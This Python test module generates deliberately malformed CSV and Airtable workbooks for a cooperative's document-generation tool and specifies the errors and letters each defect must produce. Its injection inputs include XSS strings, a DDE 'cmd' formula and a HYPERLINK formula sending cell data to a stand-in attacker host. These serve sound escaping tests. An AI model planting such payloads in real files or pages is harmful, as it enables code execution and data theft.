"""Malformed workbooks for the reliability tests: the example cooperative, with mistakes.

A *defect* is one mistake a cooperative's staff could make (a wrong type, an empty required
field, an unknown select value, a dangling or circular link, a duplicate, an impossible date,
huge text, markup or a spreadsheet formula in a name). Applied to a copy of the example
cooperative (``cae/example/``), it returns what a run on 2026-11-26 must then say and do:

- ``errors``: the (table, record, field) of each error it causes, as a multiset: two records
  sharing a name are both reported, so a duplicate expects the same triple twice;
- ``suppressed``: the keys of the clean run's documents (``tests/e2e/expected_example.json``,
  worked out by hand) that it legitimately takes away, each for the reason its docstring gives;
- ``renames``: names it changed, so the clean run's keys can be renamed the same way.

Every other document of the clean run must still be issued with the same figures.

Defects are independent: each one touches records no other defect of the same workbook touches
(``Workbook.claim``), and the records it adds join on 2026-11-16 with nothing due, so the
expectations of several defects simply add up. ``generate(seed, count)`` draws a workbook.

The tables are edited as rows of cells keyed by column label, and written back as CSV; what a
CSV file alone can hold (text in an amount) is in ``CSV_DEFECTS``. ``AIRTABLE_DEFECTS`` (in the
test) holds what an Airtable base can.
"""

from __future__ import annotations

import csv
import io
import json
import random
import unicodedata
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from settings.defaults import EXAMPLE_DIR

EXPECTED_FILE = Path(__file__).parents[1] / "e2e" / "expected_example.json"
#: The clean run's documents, worked out by hand: key -> the summary fields stated.
CLEAN_RUN = json.loads(EXPECTED_FILE.read_text("utf-8"))["runs"][0]
CLEAN_DOCUMENTS: dict[str, dict] = {d["key"]: d for d in CLEAN_RUN["documents"]}
#: The clean example's own four errors (expected_example.json), present in every workbook.
CLEAN_ERRORS = [(e["table"], e["record"], e["field"]) for e in CLEAN_RUN["errors"]]

#: Added members join on this day: nothing falls due for them on 2026-11-26 (no renewal, no
#: associate deadline, not active in October so no volunteering is owed).
NEW_MEMBER_JOINED = "2026-11-16"

#: Members that defects never rename, duplicate or invalidate: added rows link to them.
STEADY_MEMBERS = ("Sarah Cohen", "Yanis Petit", "Gaëlle Morin", "Camille Roux")

#: Missions whose payout notice is due on 2026-11-26, and that notice's key.
PAYOUT_MISSIONS = {
    "Refonte intranet Mairie de Montreuil": "payout_mid",
    "Application de réservation Théâtre des Lilas": "payout_mid",
    "Portail adhérents Fédération des Épiceries": "payout_mid",
    "Site vitrine Boulangerie Dupain": "payout_mid",
    "Automatisation des devis Menuiserie Roche": "payout_mid",
    "Boutique en ligne Fromagerie Lutèce": "payout_delivery",
    "Application de tournées Maraîcher Bio": "payout_delivery",
}

#: Invoices that are their member's only invoice of October: without them, no statement.
SOLE_OCTOBER_INVOICES = {
    "F-2026-103": "contribution_statement:Bruno Lefèvre:2026-10",
    "F-2026-104": "contribution_statement:Denis Caron:2026-10",
    "F-2026-105": "contribution_statement:Karim Haddad:2026-10",
    "F-2026-107": "contribution_statement:Hélène Girard:2026-10",
}

#: Members whose membership letters need their membership date (the rules that skip a member
#: without one), and those letters. Money (payouts, statements) does not need it.
MEMBERSHIP_LETTERS = {
    "Théo Garnier": {"renewal:Théo Garnier:2026-11-29"},
    "Inès Marchand": {"plenary_warning:Inès Marchand"},
    "Julien Perrot": {"exclusion:Julien Perrot"},
    "Fabrice Nguyen": {"non_renewal:Fabrice Nguyen:2027-01-31"},
    "Denis Caron": {"renewal:Denis Caron:2026-12-10", "associate_reminder:Denis Caron:1"},
    "Élodie Vasseur": {
        "renewal:Élodie Vasseur:2027-01-20",
        "associate_reminder:Élodie Vasseur:6",
    },
}

#: Every document of the clean run that concerns a member (as addressee or bearer).
MEMBER_DOCUMENTS: dict[str, set[str]] = {}
for _key, _doc in CLEAN_DOCUMENTS.items():
    MEMBER_DOCUMENTS.setdefault(_doc["member"], set()).add(_key)

IMPOSSIBLE_DATES = (
    "31/02/2026",
    "30/02/2024",
    "29/02/2025",
    "2026-02-30",
    "2026-13-01",
    "00/10/2026",
    "32/01/2026",
    "31/04/2026",
)
UNREADABLE_DATES = ("demain", "2026/11/01", "11-26-2026", "26.11.2026", "1er mars", "2026-1-1x")
NOT_AMOUNTS = ("douze mille", "12 000 € HT", "1,2,3", "12€50", "—", "N/A", "1.000.000", "--5")
#: Typst's markup, for the PDF: printed as typed, never read as markup.
TYPST_MARKUP = (
    "#set page(width: 1cm) *gras* _penché_",
    '$x^2$ <label> @ref \\ `code` #"chaîne" // /* ~',
)
MARKUP = (
    "<script>alert(1)</script>",
    "<b>Gras</b>",
    '"><img src=x onerror=alert(1)>',
    "<a href='javascript:alert(1)'>clic</a>",
    "</p><h1>Titre</h1>",
    "<style>body{display:none}</style>",
    "&lt;déjà échappé&gt; &amp;",
    *TYPST_MARKUP,
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.invalid/?x="&A1;"clic")',
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "=1+1",
)

Triple = tuple[str, str | None, str | None]


@dataclass
class Table:
    label: str
    header: list[str]
    rows: list[dict[str, str]]

    def find(self, primary: str) -> dict[str, str]:
        (row,) = [r for r in self.rows if r[self.header[0]] == primary]
        return row

    def add(self, **cells: str) -> int:
        """Append a row (cells by column label); return its spreadsheet line (header is 1)."""
        unknown = set(cells) - set(self.header)
        assert not unknown, unknown
        self.rows.append({label: cells.get(label, "") for label in self.header})
        return len(self.rows) + 1


@dataclass
class Outcome:
    """What one applied defect must lead to (see the module docstring)."""

    name: str
    errors: list[Triple] = field(default_factory=list)
    suppressed: set[str] = field(default_factory=set)
    renames: dict[str, str] = field(default_factory=dict)
    #: Fields of clean-run documents it changes: key -> {summary field: new value}.
    changed: dict[str, dict[str, object]] = field(default_factory=dict)


class Workbook:
    """The example cooperative's CSV tables, editable, and the records defects have claimed."""

    def __init__(self, tables: dict[str, Table]) -> None:
        self.tables = tables
        self.claimed: set[str] = set(STEADY_MEMBERS)
        self.serial = 0

    @classmethod
    def example(cls) -> Workbook:
        tables = {}
        for path in sorted(EXAMPLE_DIR.glob("*.csv")):
            reader = csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline=""))
            header = next(reader)
            rows = [dict(zip(header, row, strict=True)) for row in reader if row]
            tables[path.stem] = Table(path.stem, header, rows)
        return cls(tables)

    def __getitem__(self, label: str) -> Table:
        return self.tables[label]

    def claim(self, *names: str) -> bool:
        """Reserve records for one defect; False if another defect has one of them."""
        if self.claimed & set(names):
            return False
        self.claimed.update(names)
        return True

    def fresh(self, stem: str) -> str:
        """A record name no other record has."""
        self.serial += 1
        return f"{stem} {self.serial}"

    def new_member(self, name: str, **cells: str) -> int:
        values = {
            "Nom": name,
            "Email": f"membre{self.serial}@example.org",
            "Rôle": "Entrepreneur·e",
            "Date d'adhésion": NEW_MEMBER_JOINED,
            "Statut": "Actif·ve",
            **cells,
        }
        return self["Membres"].add(**values)

    def rename(self, table: str, old: str, new: str) -> None:
        """Rename a record and every link to it (links quote the primary value)."""
        self[table].find(old)[self[table].header[0]] = new
        targets = {
            "Membres": [
                ("Membres", "Parrain·marraine"),
                ("Missions", "Porteur·euse"),
                ("Missions", "Chef·fe de projet"),
                ("Missions", "Lead dev"),
                ("Missions", "Équipe"),
                ("Missions", "Mission pilotée pour"),
                ("Factures", "Entrepreneur·e"),
                ("Présences", "Membre"),
                ("Bénévolat", "Membre"),
            ],
            "Missions": [("Factures", "Mission")],
        }[table]
        for linking, label in targets:
            for row in self[linking].rows:
                names = parse_links(row[label])
                if old in names:
                    row[label] = link_cell([new if n == old else n for n in names])

    def write(self, folder: Path) -> Path:
        folder.mkdir(parents=True, exist_ok=True)
        for table in self.tables.values():
            buffer = io.StringIO(newline="")
            writer = csv.writer(buffer, lineterminator="\r\n")
            writer.writerow(table.header)
            for row in table.rows:
                writer.writerow([row[label] for label in table.header])
            (folder / f"{table.label}.csv").write_text(buffer.getvalue(), "utf-8", newline="")
        (folder / "cae.toml").write_bytes((EXAMPLE_DIR / "cae.toml").read_bytes())
        return folder


def parse_links(cell: str) -> list[str]:
    return [n.strip() for row in csv.reader(io.StringIO(cell), skipinitialspace=True) for n in row]


def link_cell(names: list[str]) -> str:
    """A link cell as Airtable exports it: names comma-separated, CSV-quoted when needed."""
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="").writerow(names)
    return buffer.getvalue()


# ---- the defects ----------------------------------------------------------------------------
# Each takes the workbook and a random generator, applies one mistake and returns its Outcome,
# or None when the records it needs are already claimed by another defect.

Defect = Callable[[Workbook, random.Random], Outcome | None]


def _pick(rng: random.Random, wb: Workbook, names: list[str] | set[str]) -> str | None:
    free = sorted(n for n in names if n not in wb.claimed)
    if not free:
        return None
    choice = rng.choice(free)
    wb.claim(choice)
    return choice


def _payout_key(mission: str) -> str:
    return f"{PAYOUT_MISSIONS[mission]}:{mission}"


def mission_amount_not_a_number(wb: Workbook, rng: random.Random) -> Outcome | None:
    """Text in « CA HT » or « Coûts directs » of a mission due a payout: the margin cannot be
    computed, so the notice is not issued (docs/charter.md: a record is left out of the rules
    needing the value)."""
    mission = _pick(rng, wb, PAYOUT_MISSIONS)
    if mission is None:
        return None
    label = rng.choice(["CA HT", "Coûts directs"])
    wb["Missions"].find(mission)[label] = rng.choice(NOT_AMOUNTS)
    return Outcome(f"texte dans {label}", [("Missions", mission, label)], {_payout_key(mission)})


def mission_stage_unknown_or_empty(wb: Workbook, rng: random.Random) -> Outcome | None:
    """An unknown or empty « Étape » (required select): left out of the payout rules."""
    mission = _pick(rng, wb, PAYOUT_MISSIONS)
    if mission is None:
        return None
    wb["Missions"].find(mission)["Étape"] = rng.choice(["En pause", "Terminée", "livrée ", ""])
    return Outcome("étape inconnue", [("Missions", mission, "Étape")], {_payout_key(mission)})


def mission_involvement_unknown(wb: Workbook, rng: random.Random) -> Outcome | None:
    """An unknown bearer involvement: the rate is unknown, no notice."""
    mission = _pick(rng, wb, PAYOUT_MISSIONS)
    if mission is None:
        return None
    wb["Missions"].find(mission)["Implication du porteur·euse"] = rng.choice(
        ["Beaucoup", "Apport d’affaire (30 %)", "<b>Développement</b>"]
    )
    return Outcome(
        "implication inconnue",
        [("Missions", mission, "Implication du porteur·euse")],
        {_payout_key(mission)},
    )


def mission_bearer_dangling(wb: Workbook, rng: random.Random) -> Outcome | None:
    """A bearer nobody has (a deleted or misspelt member): reported, treated as empty, so no
    commission is due to anyone."""
    mission = _pick(rng, wb, PAYOUT_MISSIONS)
    if mission is None:
        return None
    wb["Missions"].find(mission)["Porteur·euse"] = wb.fresh("Zoé Inconnue")
    return Outcome(
        "porteur inconnu", [("Missions", mission, "Porteur·euse")], {_payout_key(mission)}
    )


def mission_team_dangling(wb: Workbook, rng: random.Random) -> Outcome | None:
    """An unknown member among the team: reported; the team is not needed for any document."""
    mission = _pick(rng, wb, PAYOUT_MISSIONS)
    if mission is None:
        return None
    row = wb["Missions"].find(mission)
    row["Équipe"] = link_cell([*parse_links(row["Équipe"]), wb.fresh("Fantôme")])
    return Outcome("équipe avec un inconnu", [("Missions", mission, "Équipe")])


def mission_stage_date_impossible(wb: Workbook, rng: random.Random) -> Outcome | None:
    """An impossible delivery date on a mission paid at mid-development (the mid notice needs
    only its mid date), or an impossible mid date on a mission not due anything."""
    if rng.random() < 0.5:
        mission, label = "Application de réservation Théâtre des Lilas", "Date de livraison"
    else:
        mission, label = "Chatbot Office de Tourisme de Vincennes", "Date de mi-parcours"
    if not wb.claim(mission):
        return None
    wb["Missions"].find(mission)[label] = rng.choice(IMPOSSIBLE_DATES + UNREADABLE_DATES)
    return Outcome("date impossible (mission)", [("Missions", mission, label)])


def member_joined_bad(wb: Workbook, rng: random.Random) -> Outcome | None:
    """An impossible, unreadable or empty membership date: every membership rule skips the
    member, money is still due (decisions.md, Membership)."""
    member = _pick(rng, wb, MEMBERSHIP_LETTERS)
    if member is None:
        return None
    wb["Membres"].find(member)["Date d'adhésion"] = rng.choice(
        IMPOSSIBLE_DATES + UNREADABLE_DATES + ("",)
    )
    return Outcome(
        "date d'adhésion illisible",
        [("Membres", member, "Date d'adhésion")],
        set(MEMBERSHIP_LETTERS[member]),
    )


def member_duplicate(wb: Workbook, rng: random.Random) -> Outcome | None:
    """A second member with the same name (maybe typed decomposed, or with spaces around): both
    are reported and left out, and so are the documents that concern them; links to them are
    empty without another error."""
    member = _pick(rng, wb, ["Inès Marchand", "Théo Garnier", "Karim Haddad", "Julien Perrot"])
    if member is None:
        return None
    spelling = rng.choice([member, unicodedata.normalize("NFD", member), f"  {member} "])
    wb.new_member(spelling, Email="doublon@example.org")
    return Outcome(
        "doublon de membre",
        [("Membres", member, "Nom")] * 2,  # names are read stripped and NFC-normalized
        set(MEMBER_DOCUMENTS[member]),
    )


def mission_duplicate(wb: Workbook, rng: random.Random) -> Outcome | None:
    """A mission title twice: both left out, no payout notice."""
    mission = _pick(rng, wb, PAYOUT_MISSIONS)
    if mission is None:
        return None
    wb["Missions"].add(Mission=mission, Client="Doublon", Étape="Devis")
    return Outcome(
        "doublon de mission",
        [("Missions", mission, "Mission")] * 2,
        {_payout_key(mission)},
    )


def invoice_bad(wb: Workbook, rng: random.Random) -> Outcome | None:
    """A member's only October invoice with text in its amount or costs, an empty amount, or a
    duplicate number: the invoice is left out, and with it the month's statement."""
    number = _pick(rng, wb, SOLE_OCTOBER_INVOICES)
    if number is None:
        return None
    invoices = wb["Factures"]
    how = rng.choice(["Montant HT", "Coûts directs", "vide", "doublon"])
    if how == "doublon":
        invoices.add(**{"N°": number, "Entrepreneur·e": "Sarah Cohen", "Date": "2026-11-20",
                        "Montant HT": "100"})  # fmt: skip
        errors = [("Factures", number, "N°")] * 2
    elif how == "vide":
        invoices.find(number)["Montant HT"] = ""
        errors = [("Factures", number, "Montant HT")]
    else:
        invoices.find(number)[how] = rng.choice(NOT_AMOUNTS)
        errors = [("Factures", number, how)]
    return Outcome(f"facture ({how})", errors, {SOLE_OCTOBER_INVOICES[number]})


def invoice_links_dangling(wb: Workbook, rng: random.Random) -> Outcome | None:
    """A new invoice for an unknown entrepreneur or an unknown mission (November: no statement
    is due for November yet, so nothing else changes)."""
    number = wb.fresh("F-2026-9")
    if rng.random() < 0.5:
        cells = {"Entrepreneur·e": wb.fresh("Paul Inconnu"), "Mission": ""}
        label = "Entrepreneur·e"
    else:
        cells = {"Entrepreneur·e": "Sarah Cohen", "Mission": wb.fresh("Mission fantôme")}
        label = "Mission"
    wb["Factures"].add(**{"N°": number, "Date": "2026-11-05", "Montant HT": "500", **cells})
    return Outcome("facture avec lien inconnu", [("Factures", number, label)])


def attendance_bad(wb: Workbook, rng: random.Random) -> Outcome | None:
    """A new attendance row with an unknown presence, an empty presence, an unknown member or
    an unknown plenary: reported on « ligne N » and left out."""
    member = rng.choice(STEADY_MEMBERS)
    cells = {"Plénière": "Plénière d'octobre 2026", "Membre": member, "Présence": "Présent·e"}
    label = rng.choice(["Présence", "Présence vide", "Membre", "Plénière"])
    if label == "Présence":
        cells["Présence"] = rng.choice(["Peut-être", "absent", "Absence injustifiée !"])
    elif label == "Présence vide":
        cells["Présence"], label = "", "Présence"
    elif label == "Membre":
        cells["Membre"] = wb.fresh("Inconnu·e")
    else:
        cells["Plénière"] = wb.fresh("Plénière fantôme")
    line = wb["Présences"].add(**cells)
    return Outcome("présence invalide", [("Présences", f"ligne {line}", label)])


def attendance_repeated(wb: Workbook, rng: random.Random) -> Outcome | None:
    """Inès's two unjustified absences typed twice each: a repeat is not a fourth absence (she
    gets her warning, not an exclusion). Nothing to report: the rows say the same thing."""
    if not wb.claim("Inès Marchand"):
        return None
    table = wb["Présences"]
    for row in [r for r in table.rows if r["Membre"] == "Inès Marchand"]:
        if row["Présence"] == "Absence injustifiée":
            table.add(**row)
    return Outcome("présences répétées")


def volunteering_bad(wb: Workbook, rng: random.Random) -> Outcome | None:
    """A new volunteering row with text in its hours, an impossible week or an unknown member."""
    cells = {"Membre": rng.choice(STEADY_MEMBERS), "Semaine": "2026-11-16", "Heures": "4"}
    label = rng.choice(["Heures", "Semaine", "Membre"])
    if label == "Heures":
        cells[label] = rng.choice(["quatre", "4h", "4,5,6", "∞"])
    elif label == "Semaine":
        cells[label] = rng.choice(IMPOSSIBLE_DATES)
    else:
        cells[label] = wb.fresh("Bénévole inconnu·e")
    line = wb["Bénévolat"].add(**cells)
    return Outcome("bénévolat invalide", [("Bénévolat", f"ligne {line}", label)])


def plenary_or_workshop_bad(wb: Workbook, rng: random.Random) -> Outcome | None:
    """A new plenary or workshop without a date, with an impossible one, an unknown workshop
    kind, or twice the same name."""
    how = rng.choice(["plénière sans date", "atelier date", "atelier type", "atelier doublon"])
    if how == "plénière sans date":
        title = wb.fresh("Plénière extraordinaire")
        wb["Plénières"].add(**{"Plénière": title, "Date": rng.choice(["", *IMPOSSIBLE_DATES])})
        return Outcome(how, [("Plénières", title, "Date")])
    title = wb.fresh("Atelier <i>Zapier</i>")
    workshops = wb["Ateliers"]
    if how == "atelier date":
        workshops.add(Atelier=title, Date=rng.choice(IMPOSSIBLE_DATES), Type="Veille")
        return Outcome(how, [("Ateliers", title, "Date")])
    if how == "atelier type":
        workshops.add(Atelier=title, Date="2026-11-19", Type=rng.choice(["Conférence", "veille"]))
        return Outcome(how, [("Ateliers", title, "Type")])
    workshops.add(Atelier=title, Date="2026-11-19", Type="Veille")
    workshops.add(Atelier=title, Date="2026-11-20", Type="Atelier technique")
    return Outcome(how, [("Ateliers", title, "Atelier")] * 2)


def member_fields_bad(wb: Workbook, rng: random.Random) -> Outcome | None:
    """A new member with one bad value: an unknown role, status or channel, a checkbox word, an
    email that is no address, an unknown sponsor, an empty name (named « ligne N »)."""
    name = wb.fresh("Nouvelle Recrue")
    label, value = rng.choice(
        [
            ("Rôle", "Consultante"),
            ("Statut", "En vacances"),
            ("Démission reçue par", "Pigeon voyageur"),
            ("Membre fondateur·rice", "peut-être"),
            ("Non-renouvellement", "bientôt"),
            ("Email", "pas-une-adresse"),
            ("Email", "<script>@x"),
            ("Parrain·marraine", "Parrain Disparu"),
            ("Date de sociétariat", "31/02/2026"),
            ("Nom", ""),
        ]
    )
    line = wb.new_member(name, **{label: value})
    record = f"ligne {line}" if label == "Nom" else name
    return Outcome(f"membre : {label}", [("Membres", record, label)])


def member_email_bad(wb: Workbook, rng: random.Random) -> Outcome | None:
    """An email that is no address, on a member with letters due: reported once; the letters
    are still issued (to the out folder)."""
    member = _pick(rng, wb, ["Lucie Bernard", "Marc Dupont", "Fabrice Nguyen"])
    if member is None:
        return None
    wb["Membres"].find(member)["Email"] = rng.choice(
        ["lucie(at)example.org", "sans arobase", "a@b", "x@y@z.org"]
    )
    return Outcome("email illisible", [("Membres", member, "Email")])


def sponsorship_circular(wb: Workbook, rng: random.Random) -> Outcome | None:
    """New members sponsoring themselves, each other, or in a ring of three: one error for the
    loop, on the member whose link closes it (the last of the ring in the table), whose link
    is ignored."""
    size = rng.choice([1, 2, 3])
    names = [wb.fresh("Filleul·e en boucle") for _ in range(size)]
    for index, name in enumerate(names):
        wb.new_member(name, **{"Parrain·marraine": names[(index + 1) % size]})
    return Outcome(f"parrainage circulaire ({size})", [("Membres", names[-1], "Parrain·marraine")])


def huge_text(wb: Workbook, rng: random.Random) -> Outcome | None:
    """Huge text where text is free: an address or a non-renewal reason of a member whose
    letter prints it, a client's name, a new member's name. Nothing to report."""
    size = rng.choice([5_000, 20_000, 90_000, 300_000])  # over 128 KiB: the csv module's limit
    blob = ("Lorem ipsum dolor sit amet, « consectetur » adipiscing elit. " * 5000)[:size]
    where = rng.choice(["address", "reason", "client", "name"])
    if where == "address" and wb.claim("Lucie Bernard"):
        wb["Membres"].find("Lucie Bernard")["Adresse"] = blob[:20_000]
    elif where == "reason" and wb.claim("Fabrice Nguyen"):
        reason = blob[:20_000].strip()
        wb["Membres"].find("Fabrice Nguyen")["Motif de non-renouvellement"] = reason
        key = "non_renewal:Fabrice Nguyen:2027-01-31"
        return Outcome(f"texte énorme ({where})", changed={key: {"reason": reason}})
    elif where == "client" and wb.claim("Devis Agence Immobilière Bastille"):
        wb["Missions"].find("Devis Agence Immobilière Bastille")["Client"] = blob
    else:
        wb.new_member(wb.fresh("Nom très long") + " " + blob)
    return Outcome(f"texte énorme ({where})")


def markup_or_formula_in_name(
    wb: Workbook, rng: random.Random, text: str | None = None
) -> Outcome | None:
    """A member or a mission due a letter renamed to markup or to a spreadsheet formula (``text``,
    else one drawn from the lists): the letter is issued under the new name, which appears as
    text, never as markup or formula."""
    text = rng.choice(MARKUP + FORMULAS) if text is None else text
    if rng.random() < 0.5:
        old = _pick(rng, wb, ["Inès Marchand", "Julien Perrot", "Théo Garnier", "Hélène Girard"])
        table = "Membres"
    else:
        old = _pick(rng, wb, PAYOUT_MISSIONS)
        table = "Missions"
    if old is None:
        return None
    new = (
        f"{text} {wb.fresh('n°')}"
        if text.startswith(("=", "+", "-", "@"))
        else (f"{old} {text} {wb.fresh('n°')}")
    )
    wb.rename(table, old, new)
    wb.claimed.add(new)
    return Outcome("balisage ou formule dans un nom", renames={old: new})


#: Every defect a CSV folder can hold.
CSV_DEFECTS: tuple[Defect, ...] = (
    mission_amount_not_a_number,
    mission_stage_unknown_or_empty,
    mission_involvement_unknown,
    mission_bearer_dangling,
    mission_team_dangling,
    mission_stage_date_impossible,
    member_joined_bad,
    member_duplicate,
    mission_duplicate,
    invoice_bad,
    invoice_links_dangling,
    attendance_bad,
    attendance_repeated,
    volunteering_bad,
    plenary_or_workshop_bad,
    member_fields_bad,
    member_email_bad,
    sponsorship_circular,
    huge_text,
    markup_or_formula_in_name,
)


@dataclass
class Generated:
    """A malformed workbook and what a run on it must report and issue."""

    seed: int
    workbook: Workbook
    outcomes: list[Outcome]

    @property
    def errors(self) -> Counter[Triple]:
        """Every error the run must report, each as often as listed: the clean example's own
        four, and each defect's."""
        return Counter(CLEAN_ERRORS + [e for o in self.outcomes for e in o.errors])

    def renamed(self, key: str) -> str:
        for outcome in self.outcomes:
            for old, new in outcome.renames.items():
                key = key.replace(f":{old}", f":{new}")
        return key

    @property
    def documents(self) -> dict[str, dict]:
        """The documents the run must issue: the clean run's, less what the defects took away,
        under their new names; each with the figures of the clean run."""
        suppressed = {key for o in self.outcomes for key in o.suppressed}
        documents = {}
        for key, doc in CLEAN_DOCUMENTS.items():
            if key not in suppressed:
                for outcome in self.outcomes:
                    doc = {**doc, **outcome.changed.get(key, {})}
                documents[self.renamed(key)] = doc
        return documents


def generate(seed: int, count: int, defects: tuple[Defect, ...] = CSV_DEFECTS) -> Generated:
    """The example with up to ``count`` independent defects drawn with ``seed``."""
    rng = random.Random(seed)
    workbook = Workbook.example()
    outcomes = []
    for _ in range(count * 3):
        if len(outcomes) == count:
            break
        outcome = rng.choice(defects)(workbook, rng)
        if outcome is not None:
            outcomes.append(outcome)
    return Generated(seed, workbook, outcomes)


# ---- Airtable ---------------------------------------------------------------------------------
# What an Airtable base can hold: typed fields refuse text in a number or an impossible date, and
# links follow their records, so a deleted record leaves its links empty rather than dangling.
# The staff can still empty a required field, type a new select option, link members in a loop,
# type a name twice, paste huge text or markup, or delete a member others still point to.


class Base:
    """The example cooperative in the Airtable emulator (``cae airtable init --with-example``),
    edited through the emulator's helpers as the staff would edit it in Airtable."""

    PRIMARY = {"Membres": "Nom", "Missions": "Mission"}

    def __init__(self, emulator: Any) -> None:
        self.at = emulator
        self.claimed: set[str] = set()

    def id(self, table: str, name: str) -> str:
        (record,) = [
            r for r in self.at.records(table) if r["fields"].get(self.PRIMARY[table]) == name
        ]
        return str(record["id"])

    def change(self, table: str, name: str, fields: dict[str, Any], typecast: bool = False) -> None:
        self.at.change_record(table, self.id(table, name), fields, typecast=typecast)


def at_stage_emptied(base: Base) -> Outcome:
    """A required select emptied: « Étape » of a mission due a payout."""
    mission = "Site vitrine Boulangerie Dupain"
    base.change("Missions", mission, {"Étape": None})
    return Outcome("étape vidée", [("Missions", mission, "Étape")], {_payout_key(mission)})


def at_new_option(base: Base) -> Outcome:
    """A select option the staff typed (Airtable adds it to the field): unknown to the charter."""
    mission = "Portail adhérents Fédération des Épiceries"
    base.change("Missions", mission, {"Implication du porteur·euse": "Beaucoup"}, typecast=True)
    return Outcome(
        "option ajoutée",
        [("Missions", mission, "Implication du porteur·euse")],
        {_payout_key(mission)},
    )


def at_sponsorship_loop(base: Base) -> Outcome:
    """Yanis and Gaëlle (no letters due) made each other's sponsor: one error, on Gaëlle, who
    comes after Yanis in Membres."""
    yanis, gaelle = base.id("Membres", "Yanis Petit"), base.id("Membres", "Gaëlle Morin")
    base.at.change_record("Membres", yanis, {"Parrain·marraine": [gaelle]})
    base.at.change_record("Membres", gaelle, {"Parrain·marraine": [yanis]})
    return Outcome("parrainage circulaire", [("Membres", "Gaëlle Morin", "Parrain·marraine")])


def at_duplicate_member(base: Base) -> Outcome:
    """A member typed twice: both left out, and Inès's warning with them."""
    base.at.insert("Membres", {"Nom": "Inès Marchand", "Date d'adhésion": "2026-11-16"})
    return Outcome(
        "doublon de membre",
        [("Membres", "Inès Marchand", "Nom")] * 2,
        set(MEMBER_DOCUMENTS["Inès Marchand"]),
    )


def at_deleted_member(base: Base) -> Outcome:
    """Sarah Cohen (no letters due) deleted while her attendance and volunteering rows stay:
    Airtable empties their required « Membre », each row is reported once, as « fiche rec… »."""
    sarah = base.id("Membres", "Sarah Cohen")
    errors: list[Triple] = []
    for table in ("Présences", "Bénévolat"):
        for record in base.at.records(table):
            if record["fields"].get("Membre") == [sarah]:
                errors.append((table, f"fiche {record['id']}", "Membre"))
    base.at.delete("Membres", sarah)
    return Outcome("membre supprimé", errors)


def at_empty_name(base: Base) -> Outcome:
    """Camille Roux's name emptied (no letters due): reported once as « fiche rec… »."""
    camille = base.id("Membres", "Camille Roux")
    base.at.change_record("Membres", camille, {"Nom": None})
    return Outcome("nom vidé", [("Membres", f"fiche {camille}", "Nom")])


def at_huge_text(base: Base) -> Outcome:
    """Airtable's longest long text (100,000 characters) as the address a letter prints."""
    text = ("12 rue de la Roquette, « bâtiment B », 75011 Paris. " * 2000)[:100_000]
    base.change("Membres", "Lucie Bernard", {"Adresse": text})
    return Outcome("texte énorme")


def at_markup_and_formula(base: Base) -> Outcome:
    """A member renamed to markup, a mission due a payout renamed to a formula."""
    renames = {
        "Julien Perrot": "<script>alert(1)</script> Julien Perrot",
        "Automatisation des devis Menuiserie Roche": "=cmd|' /C calc'!A0 Automatisation",
    }
    base.change("Membres", "Julien Perrot", {"Nom": renames["Julien Perrot"]})
    old = "Automatisation des devis Menuiserie Roche"
    base.change("Missions", old, {"Mission": renames[old]})
    return Outcome("balisage et formule", renames=renames)


AIRTABLE_DEFECTS = (
    at_stage_emptied,
    at_new_option,
    at_sponsorship_loop,
    at_duplicate_member,
    at_deleted_member,
    at_empty_name,
    at_huge_text,
    at_markup_and_formula,
)


def spoil_base(emulator: Any) -> Generated:
    """Apply every Airtable defect to the example base; what a run on it must report."""
    base = Base(emulator)
    return Generated(-1, Workbook.example(), [defect(base) for defect in AIRTABLE_DEFECTS])
